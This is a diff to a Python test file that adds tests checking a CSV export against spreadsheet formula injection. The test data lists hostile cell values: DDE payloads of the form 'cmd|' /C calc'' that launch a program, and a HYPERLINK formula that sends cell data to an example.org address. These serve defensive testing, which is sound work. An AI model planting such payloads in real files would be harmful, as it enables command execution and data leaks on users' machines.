@@ -11,6 +11,7 @@ import subprocess
 import sys
 import unicodedata
 from collections.abc import Callable, Iterator
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pandas as pd
@@ -315,3 +316,63 @@ def test_formulas_in_csv_files(tmp_path: Path) -> None:
         expected = [inner.get(str(text), text if text in unchanged else f"'{text}") for text in texts[:-1]]
         assert written[name].tolist() == [*expected, ""]
     assert written["n"].tolist() == frame["n"].tolist()
+
+
+#: What a spreadsheet executes, at the beginning of a cell of any separator.
+HOSTILE_TEXTS = [
+    '=HYPERLINK("https://example.org/?"&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "Hi;=1+1",
+    'Hi";=1+1',
+    "Hi\t=1+1",
+    "Hi\n=1+1",
+    "Hi\r\n =1+1",
+    "Hi|@x",
+    'Hi; "-1+1',
+    "＝1+1",
+]
+HARMLESS_TEXTS = [
+    "Hi",
+    "1-2",
+    "a=b",
+    "x; y",
+    "a, -b",
+    "mail@example.org",
+    "-5",
+    "+491701234567",
+    "10:30",
+    "c++",
+    "ü 👋",
+]
+
+
+def test_hostile_texts_are_not_executed_whatever_the_separator(tmp_path: Path) -> None:
+    frame = pd.DataFrame({"id": "1", "text": [*HOSTILE_TEXTS, *HARMLESS_TEXTS]})
+    write_csv(frame, tmp_path / "a.csv")
+    read = pd.read_csv(tmp_path / "a.csv", dtype="str")["text"].tolist()
+    assert read[len(HOSTILE_TEXTS) :] == HARMLESS_TEXTS
+    written = (tmp_path / "a.csv").read_bytes().decode()
+    split = [read, *(re.split(rf"[{separator}\r\n]", written) for separator in (";", "\t", "|"))]
+    for cells in split:
+        assert len(cells) > len(HOSTILE_TEXTS)
+        assert not [cell for cell in cells if re.match(r'[\s"]*[=+\-@＝](?!\d+$)', cell)]
+
+
+def test_raw_texts_and_the_mark_for_excel_are_options(tmp_path: Path, run: Callable[..., str]) -> None:
+    text = HOSTILE_TEXTS[0]
+    inbound = {"event": "MoMessage", "messageId": "7", "from": "491701234567", "to": "SHOP", "timestamp": AT}
+    with vk.Archive("deliveries.db") as archive:
+        body = json.dumps(inbound | {"content": {"contentType": "text", "text": text}}).encode()
+        archive.recorder.record_callbacks([Callback(body, datetime.now(UTC))], datetime.now(UTC))
+    for options, expected, mark in ([], f"'{text}", False), (["--raw"], text, False), (["--raw", "--bom"], text, True):
+        run("export", "inbound.csv", "--what", "inbound", *options)
+        assert Path("inbound.csv").read_bytes().startswith(b"\xef\xbb\xbf") == mark
+        assert pd.read_csv("inbound.csv")["text"].tolist() == [expected]
+        assert "+491701234567" not in Path("inbound.csv").read_text()
+    run("export", "listening.csv", "--what", "listening")
+    assert list(pd.read_csv("listening.csv").columns) == ["began_at", "last_at"]
